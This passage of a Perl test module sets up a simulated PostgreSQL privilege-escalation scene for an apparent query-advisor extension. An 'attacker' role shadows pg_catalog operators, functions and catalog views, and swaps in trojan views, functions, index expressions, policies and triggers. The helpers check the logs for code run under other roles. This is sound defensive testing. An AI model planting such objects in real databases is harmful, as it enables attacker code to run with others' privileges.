  AS $$ SELECT attacker.trace('shadow-operator-like') AND (a OPERATOR(pg_catalog.~~) b) $$;
CREATE OPERATOR attacker.~~ (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_like);
CREATE FUNCTION attacker.shadow_notlike(a pg_catalog.text, b pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE sql
  AS $$ SELECT attacker.trace('shadow-operator-notlike') AND (a OPERATOR(pg_catalog.!~~) b) $$;
CREATE OPERATOR attacker.!~~ (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_notlike);
CREATE FUNCTION attacker.shadow_cat(a pg_catalog.text, b pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-concat') THEN a OPERATOR(pg_catalog.||) b END $$;
CREATE OPERATOR attacker.|| (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_cat);
CREATE FUNCTION attacker.shadow_tsminus(a pg_catalog.timestamptz, b pg_catalog.timestamptz) RETURNS pg_catalog.interval
  LANGUAGE sql AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-tsminus') THEN a OPERATOR(pg_catalog.-) b END $$;
CREATE OPERATOR attacker.- (LEFTARG = pg_catalog.timestamptz, RIGHTARG = pg_catalog.timestamptz, FUNCTION = attacker.shadow_tsminus);
CREATE FUNCTION attacker.shadow_plus(a pg_catalog.int8, b pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-plus') THEN a OPERATOR(pg_catalog.+) b END $$;
CREATE OPERATOR attacker.+ (LEFTARG = pg_catalog.int8, RIGHTARG = pg_catalog.int8, FUNCTION = attacker.shadow_plus);
CREATE FUNCTION attacker.shadow_jtext(a pg_catalog.jsonb, b pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-json-text') THEN a OPERATOR(pg_catalog.->>) b END $$;
CREATE OPERATOR attacker.->> (LEFTARG = pg_catalog.jsonb, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_jtext);
CREATE FUNCTION attacker.shadow_jget(a pg_catalog.jsonb, b pg_catalog.text) RETURNS pg_catalog.jsonb LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-json') THEN a OPERATOR(pg_catalog.->) b END $$;
CREATE OPERATOR attacker.-> (LEFTARG = pg_catalog.jsonb, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_jget);
CREATE FUNCTION attacker.now() RETURNS pg_catalog.timestamptz LANGUAGE sql STABLE
  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-now') THEN pg_catalog.now() END $$;
CREATE FUNCTION attacker.lower(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-lower') THEN pg_catalog.lower($1) END $$;
CREATE FUNCTION attacker.quote_ident(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-quote_ident') THEN pg_catalog.quote_ident($1) END $$;
CREATE FUNCTION attacker.quote_literal(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-quote_literal') THEN pg_catalog.quote_literal($1) END $$;
CREATE FUNCTION attacker.to_regclass(pg_catalog.text) RETURNS pg_catalog.regclass LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-to_regclass') THEN pg_catalog.to_regclass($1) END $$;
CREATE FUNCTION attacker.current_database() RETURNS pg_catalog.name LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-current_database') THEN pg_catalog.current_database() END $$;
CREATE FUNCTION attacker.pg_backend_pid() RETURNS pg_catalog.int4 LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-pg_backend_pid') THEN pg_catalog.pg_backend_pid() END $$;
CREATE FUNCTION attacker.jsonb_array_elements(pg_catalog.jsonb) RETURNS SETOF pg_catalog.jsonb LANGUAGE sql
  AS $$ SELECT e FROM pg_catalog.jsonb_array_elements($1) e WHERE attacker.trace('shadow-function-jsonb_array_elements') $$;
CREATE FUNCTION attacker.count_step(pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-aggregate-count') THEN $1 OPERATOR(pg_catalog.+) 1 END $$;
CREATE AGGREGATE attacker.count(*) (SFUNC = attacker.count_step, STYPE = pg_catalog.int8, INITCOND = '0');
CREATE FUNCTION attacker.max_step(pg_catalog.int8, pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-aggregate-max') THEN GREATEST($1, $2) END $$;
CREATE AGGREGATE attacker.max(pg_catalog.int8) (SFUNC = attacker.max_step, STYPE = pg_catalog.int8);
CREATE FUNCTION attacker.sum_step(pg_catalog.float8, pg_catalog.float8) RETURNS pg_catalog.float8 LANGUAGE sql
  AS $$ SELECT CASE WHEN attacker.trace('shadow-aggregate-sum') THEN COALESCE($1, 0) OPERATOR(pg_catalog.+) $2 END $$;
CREATE AGGREGATE attacker.sum(pg_catalog.float8) (SFUNC = attacker.sum_step, STYPE = pg_catalog.float8);
CREATE VIEW attacker.pg_stat_activity AS
  SELECT * FROM pg_catalog.pg_stat_activity WHERE attacker.trace('shadow-relation-pg_stat_activity');
CREATE VIEW attacker.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE attacker.trace('shadow-relation-pg_class');
CREATE VIEW attacker.pg_namespace AS
  SELECT * FROM pg_catalog.pg_namespace WHERE attacker.trace('shadow-relation-pg_namespace');
CREATE VIEW attacker.pg_index AS SELECT * FROM pg_catalog.pg_index WHERE attacker.trace('shadow-relation-pg_index');
CREATE VIEW attacker.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE attacker.trace('shadow-relation-pg_roles');
CREATE VIEW attacker.pg_database AS
  SELECT * FROM pg_catalog.pg_database WHERE attacker.trace('shadow-relation-pg_database');
CREATE VIEW attacker.pg_stat_user_indexes AS
  SELECT * FROM pg_catalog.pg_stat_user_indexes WHERE attacker.trace('shadow-relation-pg_stat_user_indexes');
CREATE VIEW attacker.pg_stat_user_tables AS
  SELECT * FROM pg_catalog.pg_stat_user_tables WHERE attacker.trace('shadow-relation-pg_stat_user_tables');
CREATE TABLE attacker.perfopt_jobs (id int);
CREATE TABLE attacker.perfopt_recommendations (id int);
CREATE TABLE attacker.perfopt_audit_log (id int);
CREATE TABLE attacker.pg_stat_statements (id int);
SQL
	$sql =~ s/\@DIR\@/$dir/g;
	$sql =~ s/\@POISON\@/$poison/;
	return $sql;
}

# The "attack <tag> ran as <role> (session user <role>)" lines of the
# server log from byte $offset on: a list of {tag, role, session, pid, line}.
sub attack_runs
{
	my ($node, $offset) = @_;
	my @runs;
	for my $line (split /\n/, log_since($node, $offset))
	{
		next unless $line =~ /\[(\d+)\] .*?LOG:  attack (\S+) ran as (\S+) \(session user (\S+)\)/;
		push @runs, { pid => $1, tag => $2, role => $3, session => $4, line => $line };
	}
	return @runs;
}

# Those of attack_runs() that did not run as the attacker, as log lines.
sub attack_foreign_runs
{
	my ($node, $offset) = @_;
	return map { $_->{line} } grep { $_->{role} ne 'attacker' } attack_runs($node, $offset);
}

# A role's attributes and memberships in one line, to compare with
# "super=f createrole=f createdb=f replication=f bypassrls=f member_of="
sub attack_role_state
{
	my ($node, $db, $role) = @_;
	$role //= 'attacker';
	return $node->safe_psql($db, qq{
SELECT pg_catalog.format('super=%s createrole=%s createdb=%s replication=%s bypassrls=%s member_of=%s',
       r.rolsuper, r.rolcreaterole, r.rolcreatedb, r.rolreplication, r.rolbypassrls,
       (SELECT pg_catalog.string_agg(m.roleid::pg_catalog.regrole::pg_catalog.text, ',' ORDER BY m.roleid)
          FROM pg_catalog.pg_auth_members m WHERE m.member OPERATOR(pg_catalog.=) r.oid))
FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) '$role'});
}

# The files attacker.trace() wrote with a privileged COPY ("escaped-*").
sub attack_evidence
{
	my ($dir) = @_;
	opendir(my $dh, $dir) or return ("(cannot read $dir: $!)");
	my @files = sort grep { /^escaped-/ } readdir $dh;
	closedir $dh;
	return @files;
}

# A query that describes the session it runs in, in one line: every
# setting attacker.trace() poisons, and the temporary objects, prepared
# statements, cursors and LISTENs it holds.  Names are qualified and no
# operator is implied, so that a poisoned search_path cannot redirect the
# query itself.  An unset custom setting and an empty one read the same.
sub attack_session_sql
{
	my %gucs = attack_poisoned_settings();
	my $list = join(",\n  ",
		map { "pg_catalog.concat('$_=', pg_catalog.current_setting('$_', true))" } sort keys %gucs);
	return qq{SELECT pg_catalog.concat_ws(' | ',
  $list,
  pg_catalog.concat('transaction_read_only=', pg_catalog.current_setting('transaction_read_only')),
  pg_catalog.concat('temp_relations=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_class c
     WHERE c.relnamespace OPERATOR(pg_catalog.=) pg_catalog.pg_my_temp_schema())),
  pg_catalog.concat('temp_functions=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_proc p
     WHERE p.pronamespace OPERATOR(pg_catalog.=) pg_catalog.pg_my_temp_schema())),
  pg_catalog.concat('prepared=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_prepared_statements)),
  pg_catalog.concat('cursors=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_cursors)),
  pg_catalog.concat('listening=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_listening_channels())))};
}

# pg_db_role_setting in one line (what ALTER ROLE/DATABASE ... SET left),
# without the attacker's own role, which it may set itself.
sub attack_db_role_settings
{
	my ($node, $db) = @_;
	return $node->safe_psql($db, q{
SELECT COALESCE(pg_catalog.string_agg(pg_catalog.format('%s/%s: %s', s.setdatabase, s.setrole, s.setconfig),
       '; ' ORDER BY s.setdatabase, s.setrole), '')
FROM pg_catalog.pg_db_role_setting s
WHERE s.setrole OPERATOR(pg_catalog.<>) COALESCE((SELECT r.oid FROM pg_catalog.pg_roles r
      WHERE r.rolname OPERATOR(pg_catalog.=) 'attacker'), 0)});
}

# ---- the attack scene: one database with the attacker's objects, a
# recorded workload that touches them, and the changes the attacker makes
# under that workload.  attack_scene_setup, then pg_stat_statements_reset()
# and attack_scene_workload, then attack_scene_arm.
#
# Roles (cluster-wide, created once): attacker (LOGIN, owns schema
# attacker), app (LOGIN, owns schema app, granted SELECT on the
# attacker's table and view), auditor (LOGIN, BYPASSRLS, granted the
# same).  Objects: attacker.t (20000 rows, k with 20 rows per value),
# attacker.w (a table the superuser reads; later a view), attacker.norm()
# and attacker.rows_of() (SQL functions the superuser calls; later
# replaced), attacker.vapp (a view app and auditor read; later calling
# the attacker's code), attacker.f_own() (the attacker's own statement),
# attacker.slow() (sleeps 60 s once attacker.flags is armed), the range
# type attacker.frange whose subtype_diff is the attacker's (app's table
# app.slots has a column of it; the planner's range estimator calls it),
# app.orders (app's own table).

push @EXPORT, qw(
  attack_workload
  attack_scene_setup
  attack_scene_workload
  attack_scene_arm
  attack_planned_tags
  attack_two_owner_statement
);

# Run statements as $role, one session, output discarded.
sub attack_workload
{
	my ($node, $db, $role, @stmts) = @_;
	psql_as($node, $db, $role, "\\o /dev/null\n" . join('', map { "$_;\n" } @stmts));
	return;
}

# the tags of the attacker's code that planning the scene's workload runs
# (as the attacker)
sub attack_planned_tags
{
	return qw(view-swap sql-function-swap srf-swap view-for-app rls-policy statistics-expression own-statement);
}

# the normalized text of app's statement that touches app's and the
# attacker's objects (no single role may plan it)
sub attack_two_owner_statement
{
	return 'SELECT count(*) FROM app.orders o JOIN attacker.vapp a ON a.k = o.k WHERE o.k = $1';
}

sub attack_scene_setup
{
	my ($node, $db, $evidence_dir) = @_;
	$node->safe_psql(
		$db, q{
DO $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'attacker') THEN
    CREATE ROLE attacker LOGIN;
    CREATE ROLE app LOGIN;
    CREATE ROLE auditor LOGIN BYPASSRLS;
  END IF;
END $$;
CREATE SCHEMA attacker AUTHORIZATION attacker;
CREATE SCHEMA app AUTHORIZATION app;
});
	psql_as($node, $db, 'attacker', attack_kit_sql($evidence_dir));
	psql_as(
		$node, $db, 'attacker', q{
CREATE DOMAIN attacker.posint AS int;
CREATE TABLE attacker.t (id int NOT NULL, k int NOT NULL, v bigint NOT NULL, d attacker.posint, note text);
INSERT INTO attacker.t SELECT g, g % 1000, g, g, 'n' FROM generate_series(1, 20000) g;
CREATE TABLE attacker.w (id int NOT NULL, k int NOT NULL, note text);
INSERT INTO attacker.w SELECT g, g % 1000, repeat('w', 20) FROM generate_series(1, 20000) g;
VACUUM ANALYZE attacker.t;
VACUUM ANALYZE attacker.w;
CREATE FUNCTION attacker.norm(int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT $1';
CREATE FUNCTION attacker.rows_of(int) RETURNS SETOF attacker.t LANGUAGE sql STABLE
  AS 'SELECT * FROM attacker.t WHERE k = $1';
CREATE VIEW attacker.vapp AS SELECT * FROM attacker.t;
CREATE FUNCTION attacker.f_own() RETURNS bigint LANGUAGE plpgsql IMMUTABLE
  AS $$ BEGIN PERFORM attacker.trace('own-statement'); RETURN 7; END $$;
CREATE FUNCTION attacker.slow() RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  IF (SELECT f.armed FROM attacker.flags f) THEN
    PERFORM attacker.trace('slow');
    PERFORM pg_catalog.pg_sleep(60);
  END IF;
  RETURN 3;
END $$;
CREATE FUNCTION attacker.fdiff(a float8, b float8) RETURNS float8 LANGUAGE sql IMMUTABLE AS 'SELECT a - b';
CREATE TYPE attacker.frange AS RANGE (SUBTYPE = float8, SUBTYPE_DIFF = attacker.fdiff);
GRANT USAGE ON SCHEMA attacker TO app, auditor;
GRANT SELECT ON attacker.t, attacker.vapp TO app, auditor;
});
	$node->safe_psql($db, lookup_table_sql('app.orders', 20000) . 'ALTER TABLE app.orders OWNER TO app;');
	psql_as(
		$node, $db, 'app', q{
CREATE TABLE app.slots (id int NOT NULL, during attacker.frange NOT NULL);
INSERT INTO app.slots SELECT g, attacker.frange(g, g + 10) FROM generate_series(1, 20000) g;
-- flushed first, so the table does not look changed since its ANALYZE: an
-- ANALYZE (autovacuum's, or a job's) runs the range type's subtype_diff as
-- the table's owner, which is PostgreSQL's rule, not perfopt's to change;
-- what perfopt must never do is run it as anyone while it plans
SELECT pg_stat_force_next_flush();
ANALYZE app.slots;
});
	return;
}

sub attack_scene_workload
{
	my ($node, $db) = @_;
	my @ks = (1 .. 20);
	attack_workload(
		$node, $db, 'postgres',
		(map { "SELECT count(*) FROM attacker.w WHERE k = $_" } @ks),
		(map { "SELECT count(*) FROM attacker.t WHERE k = attacker.norm($_)" } @ks),
		(map { "SELECT count(*) FROM attacker.rows_of($_)" } @ks),
		(map { "SELECT count(*) FROM attacker.t WHERE k = $_" } @ks),
		(map { "SELECT count(*) FROM attacker.t WHERE d = $_" } @ks));
	attack_workload(
		$node, $db, 'app',
		(map { "SELECT count(*) FROM attacker.t WHERE k = $_" } @ks),
		(map { "SELECT count(*) FROM attacker.vapp WHERE k = $_" } @ks),
		(map { "SELECT count(*) FROM app.orders o JOIN attacker.vapp a ON a.k = o.k WHERE o.k = $_" } @ks),
		('SELECT count(*) FROM app.slots WHERE during @> pi()') x 5);
	attack_workload($node, $db, 'auditor', map { "SELECT count(*) FROM attacker.vapp WHERE k = $_" } @ks);
	attack_workload($node, $db, 'attacker', ('SELECT count(*) FROM attacker.t WHERE v = attacker.f_own()') x 2,
		'SELECT count(*) FROM attacker.t WHERE v = attacker.slow()');
	# the review's statement, each in a session of its own (it poisons the
	# session it runs in)
	attack_workload($node, $db, 'attacker', 'SELECT count(*) FROM attacker.t WHERE v = attacker.poison()')
	  for 1 .. 2;
	return;
}

sub attack_scene_arm
{
	my ($node, $db) = @_;
	psql_as(
		$node, $db, 'attacker', q{
ALTER TABLE attacker.w RENAME TO w_old;
CREATE VIEW attacker.w AS SELECT * FROM attacker.w_old WHERE attacker.imm('view-swap') > 0;
CREATE OR REPLACE FUNCTION attacker.norm(int) RETURNS int LANGUAGE sql IMMUTABLE
  AS 'SELECT $1 + (attacker.imm(''sql-function-swap'') * 0)::int';
CREATE OR REPLACE FUNCTION attacker.rows_of(int) RETURNS SETOF attacker.t LANGUAGE sql STABLE
  AS 'SELECT * FROM attacker.t WHERE k = $1 AND attacker.imm(''srf-swap'') > 0';
CREATE OR REPLACE VIEW attacker.vapp AS SELECT * FROM attacker.t WHERE attacker.imm('view-for-app') > 0;
CREATE OR REPLACE FUNCTION attacker.fdiff(a float8, b float8) RETURNS float8 LANGUAGE plpgsql IMMUTABLE
  AS $$ BEGIN PERFORM attacker.trace('range-subtype-diff'); RETURN a - b; END $$;
CREATE INDEX t_expr ON attacker.t ((v + attacker.imm('index-expression')));
CREATE INDEX t_pred ON attacker.t (id) WHERE attacker.imm('index-predicate') > 0;
CREATE STATISTICS attacker.t_stats ON (v + attacker.imm('statistics-expression')) FROM attacker.t;
ALTER DOMAIN attacker.posint ADD CONSTRAINT posint_check CHECK (attacker.trace('domain-check')) NOT VALID;
ALTER TABLE attacker.t ADD CONSTRAINT t_check CHECK (attacker.trace('check-constraint')) NOT VALID;
ALTER TABLE attacker.t ALTER COLUMN note SET DEFAULT (attacker.trace('column-default'))::text;
CREATE FUNCTION attacker.trg() RETURNS trigger LANGUAGE plpgsql
  AS $$ BEGIN PERFORM attacker.trace('trigger'); RETURN NULL; END $$;
CREATE TRIGGER t_trg BEFORE INSERT OR UPDATE OR DELETE ON attacker.t FOR EACH ROW EXECUTE FUNCTION attacker.trg();
ALTER TABLE attacker.t ENABLE ROW LEVEL SECURITY;
ALTER TABLE attacker.t FORCE ROW LEVEL SECURITY;
CREATE POLICY t_policy ON attacker.t USING (attacker.imm('rls-policy') > 0);
ANALYZE attacker.t;
});
	return;
}

1;
